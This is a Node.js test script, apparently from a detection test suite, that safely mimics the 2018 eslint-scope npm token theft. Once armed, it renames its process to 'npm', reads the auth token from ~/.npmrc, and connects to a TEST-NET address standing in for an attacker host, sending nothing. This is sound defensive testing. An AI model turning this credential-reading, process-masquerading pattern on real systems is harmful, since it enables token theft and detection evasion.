// Simulates the eslint-scope 3.7.2 compromise (July 2018): its postinstall
// fetched a script that read the user's ~/.npmrc and sent the npm token to
// the attacker over HTTPS.
// What this does instead, harmlessly: it reads the token of $HOME/.npmrc the
// way the attack did (the job's own home: a worthless canary; if there is no
// file it writes a FAKE token first), and opens a TCP connection to
// 198.51.100.23:443, a TEST-NET-2 address: in the sandbox's sinkhole network
// only the sandbox's own sinkhole answers it, offline it fails with
// ENETUNREACH. Nothing is ever sent.
// It also renames itself "npm" first (process.title sets the task name, i.e.
// Falco's proc.name): the rules must not take it for npm.
'use strict';
const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

if (!require('fs').existsSync(require('path').join(__dirname, 'armed'))) {
  console.log("attack-npmrc-stealer: not armed by scanfarm's tests, doing nothing");
  process.exit(0);
}
process.title = 'npm';
const npmrc = path.join(os.homedir(), '.npmrc');
if (!fs.existsSync(npmrc))
  fs.writeFileSync(npmrc, '//registry.npmjs.org/:_authToken=npm_FAKE0scanfarm0test0token00000000000\n');
const token = (fs.readFileSync(npmrc, 'utf8').match(/_authToken=(\S+)/) || [])[1] || '';
console.log(`attack-npmrc-stealer: read a token of ${token.length} characters`);

const s = net.connect({ host: '198.51.100.23', port: 443 });
s.setTimeout(3000, () => s.destroy());
s.on('connect', () => s.destroy()); // never write anything
s.on('error', (e) => console.log(`attack-npmrc-stealer: connect ${e.code}`));
s.on('close', () => process.exit(0));
